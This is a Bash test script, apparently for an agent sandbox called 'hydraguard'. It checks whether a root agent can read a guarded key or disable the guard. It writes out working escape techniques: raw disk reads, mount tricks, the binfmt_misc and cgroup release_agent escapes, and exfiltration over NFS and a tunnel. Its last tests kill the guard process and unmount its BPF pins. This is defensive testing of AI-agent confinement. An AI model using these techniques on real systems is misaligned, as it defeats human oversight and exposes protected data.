#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# long: all guest suites together take longer than continuous integration should
# What an agent that is root does with mounts, disks and routes of the machine itself. Nearly all is
# allowed by the policy but the box; the last ones would take the guard away.
# These functions run in a shell of their own: $1... are their arguments.
# shellcheck disable=SC2016,SC2317,SC2329
here=$(dirname "${BASH_SOURCE[0]}")
. "$here/lib.sh"
. "$here/arena.sh"

for module in overlay loop netconsole configfs binfmt_misc nfs nfsv3 dummy ipip; do
	modprobe -q $module
done
arena_make
# A file system of its own that holds a secret, and an image of one.
mkdir -p /srv/fs
mount --bind /srv/fs /srv/fs
mount --make-private /srv/fs
mkdir -p /srv/fs/vault
mount -t tmpfs v /srv/fs/vault
echo "${mark[closed]}" >/srv/fs/vault/key
mkdir -p "$T/image"
echo "${mark[closed]}" >"$T/image/key"
mke2fs -q -d "$T/image" /srv/template/disk.img 1M
ip link add wire0 type dummy && ip link set wire0 up
ip addr add 198.51.100.1/24 dev wire0
ip neigh add 198.51.100.9 lladdr 02:00:00:00:00:09 dev wire0
"$ACTS/listen" "$T/received" "$T/ready" wire:wire0 tcp:127.0.0.1:7002 >"$T/cannot" &
disown
need wait_for 10 test -e "$T/ready"
# `agent` mounts in namespaces of its own, `mounter` over the machine as well.
if [ ! "${CONTROL_ONLY-}" ]; then
	agent_attach agent "$POLICIES/wide.yaml"
	sed 's/^name: wide/name: mounter/; s/ io_uring$/ io_uring cap:SYS_ADMIN/' "$POLICIES/wide.yaml" \
		>"$T/mounter.yaml"
	agent_attach mounter "$T/mounter.yaml"
fi
# attack_mounting [OPTION...] NAME FUNCTION: an attack by both
attack_mounting()
{
	local options=("${@:1:$#-2}") name=${*: -2:1} function=${*: -1}

	attack -u 0 -n "${options[@]}" "$name" "$function"
	attack -u 0 -n -a mounter "${options[@]}" "$name, where mounting is allowed" "$function"
}
# As long as the keeper may take to name a new mount, and longer.
export NAMED='sleep 1.2'

# ---- disks below their file system ----
root_disk=$(findmnt -n -o SOURCE /)
export root_disk
raw_debugfs() { sync; debugfs -R "cat ${BOX}/key" "$root_disk"; }
attack -u 0 -n 'debugfs on the disk' raw_debugfs
raw_node()
{
	sync
	mknod "$WS/disk" b $(($(stat -c 0x%t "$root_disk"))) $(($(stat -c 0x%T "$root_disk"))) &&
		debugfs -R "cat $BOX/key" "$WS/disk"
}
attack -u 0 -n 'debugfs on a device node of its own' raw_node
raw_link() { sync; ln -s "$root_disk" "$WS/disk" && debugfs -R "cat $BOX/key" "$WS/disk"; }
attack -u 0 -n 'debugfs by a symbolic link' raw_link
raw_again() { mkdir -p "$WS/m" && mount -t ext4 "$root_disk" "$WS/m" && $NAMED && cat "$WS/m$BOX/key"; }
attack_mounting 'the disk mounted once more' raw_again
raw_namespace()
{
	mkdir -p "$WS/m" && unshare -m bash -c 'mount -t ext4 "$root_disk" "$WS/m" && cat "$WS/m$BOX/key"'
}
attack_mounting 'the disk mounted once more, in a namespace' raw_namespace
raw_read_only()
{
	mkdir -p "$WS/m" && mount -o bind,ro / "$WS/m" && $NAMED && cat "$WS/m$BOX/key"
}
attack_mounting 'everything bound read-only elsewhere' raw_read_only
image_mount() { mkdir -p "$WS/m" && mount -o loop "$ARENA_DIR/disk.img" "$WS/m" && $NAMED && cat "$WS/m/key"; }
export ARENA_DIR=$ARENA
attack_mounting 'loop mount of an image' image_mount
image_debugfs() { debugfs -R 'cat key' "$ARENA_DIR/disk.img"; }
attack -u 0 -n 'debugfs on an image' image_debugfs
swapped() { grep -q /swap /proc/swaps; }
swap_off() { swapoff -a; }
make_swap() { head -c 1048576 /dev/zero >"$ARENA/closed/swap" && mkswap -q "$ARENA/closed/swap"; }
swap_on() { swapon "$BOX/swap"; }
attack -u 0 -n -e swapped -s make_swap -c swap_off 'swapping to a file' swap_on

# ---- mounts of the machine ----
restore_vault()
{
	umount -q -l "$WS/m"
	mountpoint -q /srv/fs/vault && return
	mount -t tmpfs v /srv/fs/vault
	echo "${mark[closed]}" >/srv/fs/vault/key
	# For the keeper to see.
	sleep 1.2
}
bind_box() { mkdir -p "$WS/m" && mount --bind "$BOX" "$WS/m" && $NAMED && cat "$WS/m/key"; }
attack_mounting 'bind mount' bind_box
# These two are mounting over the machine itself: with cap:SYS_ADMIN names are what it makes them (README).
mount_moved() { mkdir -p "$WS/m" && mount --move /srv/fs/vault "$WS/m" && $NAMED && cat "$WS/m/key"; }
attack -u 0 -n -r -c restore_vault 'a mount moved to where more is allowed' mount_moved
mount_bound_alone()
{
	mkdir -p "$WS/m" && mount --bind /srv/fs/vault "$WS/m" && umount -l /srv/fs/vault && $NAMED &&
		cat "$WS/m/key"
}
attack -u 0 -n -r -c restore_vault 'a mount bound elsewhere, its first place unmounted' mount_bound_alone
mount_parent()
{
	mkdir -p "$WS/m" && mount --rbind /srv/fs "$WS/m" && $NAMED
	cat "$WS/m/vault/key"
}
attack_mounting -r -c restore_vault 'the tree above a mount bound elsewhere' mount_parent
overlay_host()
{
	mkdir -p "$WS/m" "$WS/low" && mount -t overlay o -o "lowerdir=$BOX:$WS/low" "$WS/m" && $NAMED &&
		cat "$WS/m/key"
}
attack_mounting -r 'overlay over it, where the keeper names it' overlay_host
overlay_copied()
{
	mkdir -p "$WS/m" "$WS/up" "$WS/work" &&
		mount -t overlay o -o "lowerdir=$BOX,upperdir=$WS/up,workdir=$WS/work" "$WS/m" &&
		$NAMED && chmod 640 "$WS/m/key" && cat "$WS/up/key"
}
attack_mounting -r 'copied up by an overlay' overlay_copied
# Honest: what an agent keeps on a disk or in memory has the names of where it is.
own_mounts()
{
	mkdir -p "$WS/m" "$WS/n" && mount -t ext4 "$own_disk" "$WS/m" && mount -t tmpfs t "$WS/n" || return
	for i in {1..20}; do
		sleep 1
		echo "$WORD" >"$WS/m/f" && cp "$WS/m/f" "$WS/n/f" && cat "$WS/n/f" && break
	done
}
if [ ! "${CONTROL_ONLY-}" ]; then
	truncate -s 1M /scratch/own.img && need mke2fs -q /scratch/own.img
	own_disk=$(losetup -f --show /scratch/own.img)
	export own_disk
	arena_reset
	run mounter 0 open own_mounts
	arena_dirty=1
	check 'honest: a disk and a tmpfs, where mounting is allowed' grep -qF "${mark[open]}" "$T/out"
fi

# ---- file systems that are the kernel's own switches ----
trace_elsewhere()
{
	mkdir -p "$WS/m" && umount /sys/kernel/tracing && mount -t tracefs t "$WS/m" && $NAMED &&
		echo "$WORD" >"$WS/m/trace_marker" && grep -F "$WORD" "$WS/m/trace"
}
restore_tracing()
{
	umount -q -l "$WS/m"
	mountpoint -q /sys/kernel/tracing || mount -t tracefs t /sys/kernel/tracing
	: >/sys/kernel/tracing/trace
}
attack_mounting -r -c restore_tracing 'tracefs moved to where writing is allowed' trace_elsewhere
config_dir()
{
	mkdir -p "$WS/m" && unshare -m bash -c 'mount -t configfs c "$WS/m" && mkdir "$WS/m/netconsole/x" &&
		echo "$WORD"; rmdir "$WS/m/netconsole/x"'
}
attack_mounting -r 'configfs, which is mounted nowhere else' config_dir
binfmt()
{
	mkdir -p "$WS/m" && mount -t binfmt_misc b "$WS/m" && $NAMED &&
		printf '#!/bin/sh\necho ran >/srv/ran\n' >"$WS/i" && chmod 755 "$WS/i" &&
		echo ":planted:E::planted::$WS/i:" >"$WS/m/register"
}
# Somebody outside runs a file of that kind.
binfmt_ran()
{
	rm -f /srv/ran
	printf 'x' >"$T/f.planted"
	chmod 755 "$T/f.planted"
	"$T/f.planted" 2>/dev/null
	[ -e /srv/ran ]
}
binfmt_remove()
{
	mount -t binfmt_misc b /mnt && echo -1 >/mnt/planted
	umount /mnt
	rm -f /srv/ran
}
attack_mounting -e binfmt_ran -c binfmt_remove 'binfmt_misc' binfmt
release_agent()
{
	mkdir -p "$WS/m" && mount -t cgroup -o none,name=planted c "$WS/m" && $NAMED &&
		printf '#!/bin/sh\necho ran >/srv/ran\n' >"$WS/i" && chmod 755 "$WS/i" &&
		echo "$WS/i" >"$WS/m/release_agent" && mkdir "$WS/m/x" &&
		echo 1 >"$WS/m/x/notify_on_release" && sh -c 'echo 0 >"$WS/m/x/cgroup.procs"'
	sleep 0.5
}
ran() { [ -e /srv/ran ]; }
release_remove()
{
	rmdir "$WS/m/x" 2>/dev/null
	umount -q "$WS/m"
	rm -f /srv/ran
}
attack_mounting -e ran -c release_remove 'release_agent of an old cgroup hierarchy' release_agent

# ---- the kernel as the one who sends ----
sent() { wait_for 1 grep -qaF "${mark[closed]:0:12}" "$T/received"; }
forget() { : >"$T/received"; }
connected() { wait_for 1 grep -qF 'tcp:127.0.0.1:7002: connected' "$T/received"; }
nfs_mount() { mkdir -p "$WS/m" && "$ACTS/mounts" nfs 7002 "$WS/m"; }
attack -u 0 -n -e connected -s forget 'NFS mount from a server of its own' nfs_mount
tunnel()
{
	ip link add hole type ipip local 198.51.100.1 remote 198.51.100.9 && ip link set hole up &&
		ip route add 192.0.2.1 dev hole && "$ACTS/send" sendto 192.0.2.1 7001 "$WORD"
}
tunnel_remove() { ip link del hole; }
attack -u 0 -n -e sent -s forget -c tunnel_remove 'a tunnel to a denied host under an allowed route' tunnel

# ---- last: what would take the guard away ----
take_bpf()
{
	umount -l /sys/fs/bpf
	sleep 1
	cat "$BOX/key"
}
kill_keeper()
{
	for p in /proc/[0-9]*; do
		case $(tr '\0' ' ' <"$p/cmdline") in *hydraguard*keeper*) kill -9 "${p#/proc/}" ;; esac
	done
	sleep 0.5
	umount -l /sys/fs/bpf
	sleep 1
	cat "$BOX/key"
}
if [ ! "${CONTROL_ONLY-}" ]; then
	for way in take_bpf kill_keeper; do
		arena_reset
		run agent 0 closed $way
		sleep 1
		run agent 0 closed cat "$ARENA/closed/key"
		if grep -qF "${mark[closed]}" "$T/out"; then
			not_ok "uid 0: $way: the pins unmounted" 'THE ATTACK SUCCEEDS' "$(said)"
		elif ! "$HG" status agent >"$T/out" 2>"$T/err"; then
			not_ok "uid 0: $way: the pins unmounted" 'no command finds the agent any more' "$(said)"
		else
			ok "uid 0: $way: the pins unmounted"
		fi
		mountpoint -q /sys/fs/bpf || mount -t bpf b /sys/fs/bpf
	done
fi
finish
